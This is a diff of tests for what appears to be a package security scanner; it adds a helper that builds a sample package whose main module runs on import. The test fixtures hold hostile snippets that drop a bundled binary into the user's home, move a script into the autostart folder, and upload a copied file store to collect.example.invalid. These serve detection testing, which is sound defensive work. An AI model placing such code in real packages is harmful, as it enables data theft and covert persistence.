@@ -30,6 +30,14 @@ if os.path.exists(OLD_HISTORY):
 """
 
 
+def _module(tmp_path, text: str, imported: str):
+    """A package whose ``__init__`` imports ``imported`` from ``main`` (``text``): main's top
+    level runs on import."""
+    return scan(
+        {"gadget/__init__.py": f"from .main import {imported}\n", "gadget/main.py": text}, tmp_path
+    )
+
+
 def _writes(result) -> list[tuple[str, str]]:
     return sorted(
         (h.path, h.severity) for h in result.findings if h.capability == "fs.write_outside"
@@ -37,9 +45,7 @@ def _writes(result) -> list[tuple[str, str]]:
 
 
 def test_a_user_settings_file_moved_at_import_is_shown_not_raised(tmp_path):
-    res = scan(
-        {"gadget/__init__.py": "from .main import CONFIG\n", "gadget/main.py": MIGRATE}, tmp_path
-    )
+    res = _module(tmp_path, MIGRATE, "CONFIG")
     assert _writes(res) == [("gadget/main.py", "medium"), ("gadget/main.py", "medium")]
     assert "the user's" in next(
         h.explanation for h in res.findings if h.capability == "fs.write_outside"
@@ -54,10 +60,7 @@ def test_the_packages_own_file_copied_out_at_import_stays_an_import_time_act(tmp
         "AGENT = os.path.join(os.path.dirname(__file__), 'agent.bin')\n"
         "shutil.copy(AGENT, os.path.expanduser('~/.local/share/gadget-agent'))\n"
     )
-    res = scan(
-        {"gadget/__init__.py": "from .main import CONFIG\n", "gadget/main.py": drop},
-        subfolder(tmp_path, "drop"),
-    )
+    res = _module(subfolder(tmp_path, "drop"), drop, "CONFIG")
     assert ("gadget/main.py", "high") in _writes(res)
     assert_high_with("own file copied out", res, {"place.import_time"})
 
@@ -68,10 +71,7 @@ def test_a_users_file_moved_into_an_autostart_place_stays_persistence(tmp_path):
         "SRC = os.path.expanduser('~/.cache/gadget/helper.sh')\n"
         "shutil.move(SRC, os.path.expanduser('~/.config/autostart/gadget.desktop'))\n"
     )
-    res = scan(
-        {"gadget/__init__.py": "from .main import SRC\n", "gadget/main.py": move},
-        subfolder(tmp_path, "autostart"),
-    )
+    res = _module(subfolder(tmp_path, "autostart"), move, "SRC")
     assert_high_with("moved to autostart", res, {"impact.persistence", "place.import_time"})
 
 
@@ -86,10 +86,7 @@ def test_a_stolen_store_copied_to_temp_and_sent_stays_a_chain(tmp_path):
         "shutil.copy2(STORE, COPY)\n"
         "requests.post('https://collect.example.invalid/u', files={'f': open(COPY, 'rb')})\n"
     )
-    res = scan(
-        {"gadget/__init__.py": "from .main import COPY\n", "gadget/main.py": steal},
-        subfolder(tmp_path, "steal"),
-    )
+    res = _module(subfolder(tmp_path, "steal"), steal, "COPY")
     assert_high_with("store copied and sent", res, {"chain.exfiltration", "place.import_time"})
 
 
